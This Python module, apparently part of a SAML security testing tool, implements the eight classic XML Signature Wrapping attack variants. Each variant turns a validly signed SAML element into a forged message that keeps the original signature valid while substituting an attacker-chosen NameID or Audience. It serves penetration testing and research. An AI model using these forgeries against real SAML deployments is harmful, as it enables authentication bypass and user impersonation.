"""Signature wrapping: the eight classic variants (Somorovsky et al., "On Breaking SAML", 2012).

Each takes an element with a valid Signature and gives back what an attacker makes of it: the original, still signed,
somewhere it is not looked for, and a forged copy where it is.
"""

from collections.abc import Callable
from copy import deepcopy

from lxml import etree

from broker.attacks.draft import Draft
from broker.attacks.draft import find
from broker.attacks.draft import parent_of
from broker.attacks.forging import SIGNATURE
from broker.attacks.steps import step
from broker.saml.names import DS
from broker.saml.names import SAML
from broker.saml.names import SAMLP
from broker.saml.names import tag

Variant = Callable[[etree._Element, str], etree._Element]


def forged_copy(original: etree._Element, evil: str, *, keep_id: bool = False) -> etree._Element:
    """A copy without Signature, under another ID, that says something else."""
    copy = deepcopy(original)
    for signature in list(copy.iter(SIGNATURE)):
        parent_of(signature).remove(signature)
    for node in copy.iter():
        if not keep_id:
            for name in ("ID", "Id"):
                if node.get(name) is not None:
                    node.set(name, f"_evil{node.get(name)}")
        if node.tag in {tag(SAML, "NameID"), tag(SAML, "Audience")}:
            node.text = evil
    if copy.tag == tag(SAMLP, "AuthnRequest"):
        copy.set("ProviderName", evil)
    if copy.get("InResponseTo") is not None:
        copy.set("InResponseTo", evil)
    return copy


def without_signature(original: etree._Element) -> tuple[etree._Element, etree._Element]:
    """A copy of the element without its Signature, and that Signature."""
    copy = deepcopy(original)
    signature = find(copy, SIGNATURE)
    copy.remove(signature)
    return copy, signature


def _after_issuer(element: etree._Element, *nodes: etree._Element) -> None:
    for offset, node in enumerate(nodes, start=1):
        element.insert(offset, node)


def _xsw1(signed: etree._Element, evil: str) -> etree._Element:
    """The forged element carries the Signature, which holds the original."""
    forged, (original, signature) = forged_copy(signed, evil), without_signature(signed)
    signature.append(original)
    _after_issuer(forged, signature)
    return forged


def _xsw2(signed: etree._Element, evil: str) -> etree._Element:
    """Original and Signature stand side by side in the forged element."""
    forged, (original, signature) = forged_copy(signed, evil), without_signature(signed)
    _after_issuer(forged, original, signature)
    return forged


def _xsw3(signed: etree._Element, evil: str) -> etree._Element:
    """The forged element stands in front of the original, both in the forged parent."""
    forged = forged_copy(signed, evil)
    forged.insert(1, deepcopy(signed))
    return forged


def _xsw4(signed: etree._Element, evil: str) -> etree._Element:
    """The original, with its Signature, is the last child of the forged element."""
    forged = forged_copy(signed, evil)
    forged.append(deepcopy(signed))
    return forged


def _xsw5(signed: etree._Element, evil: str) -> etree._Element:
    """The forged element carries the Signature; the original without it comes last."""
    forged, (original, signature) = forged_copy(signed, evil), without_signature(signed)
    _after_issuer(forged, signature)
    forged.append(original)
    return forged


def _xsw6(signed: etree._Element, evil: str) -> etree._Element:
    """The forged element carries the Signature, whose KeyInfo holds the original."""
    forged, (original, signature) = forged_copy(signed, evil), without_signature(signed)
    find(signature, tag(DS, "KeyInfo")).append(original)
    _after_issuer(forged, signature)
    return forged


def _xsw7(signed: etree._Element, evil: str) -> etree._Element:
    """The original, with its Signature, hides in Extensions of the forged element."""
    forged = forged_copy(signed, evil)
    extensions = etree.Element(tag(SAMLP, "Extensions"))
    extensions.append(deepcopy(signed))
    _after_issuer(forged, extensions)
    return forged


def _xsw8(signed: etree._Element, evil: str) -> etree._Element:
    """The forged element carries the Signature, whose Object holds the original."""
    forged, (original, signature) = forged_copy(signed, evil), without_signature(signed)
    etree.SubElement(signature, tag(DS, "Object")).append(original)
    _after_issuer(forged, signature)
    return forged


VARIANTS: dict[str, Variant] = {
    f"xsw{number}": variant
    for number, variant in enumerate((_xsw1, _xsw2, _xsw3, _xsw4, _xsw5, _xsw6, _xsw7, _xsw8), start=1)
}


@step
def wrap(draft: Draft, variant: int, at: str = ".") -> None:
    """Wrap the signed element at a place, by one of the eight variants."""
    make = VARIANTS[f"xsw{variant}"]
    draft.edit(lambda root: _replaced(find(root, at), lambda signed: make(signed, draft.scene.evil)))


@step
def falsify(draft: Draft, at: str = ".", keep_id: bool = False) -> None:
    """Make of an element what an attacker wants to say: without Signature, with other IDs and the evil value."""
    evil = draft.scene.evil
    draft.edit(lambda root: _replaced(find(root, at), lambda real: forged_copy(real, evil, keep_id=keep_id)))


def _replaced(
    element: etree._Element, make: Callable[[etree._Element], etree._Element]
) -> etree._Element | None:
    """Put what ``make`` makes of an element in its place; the new root, when that is the place."""
    forged, parent = make(element), element.getparent()
    if parent is None:
        return forged
    parent.replace(element, forged)
    return None
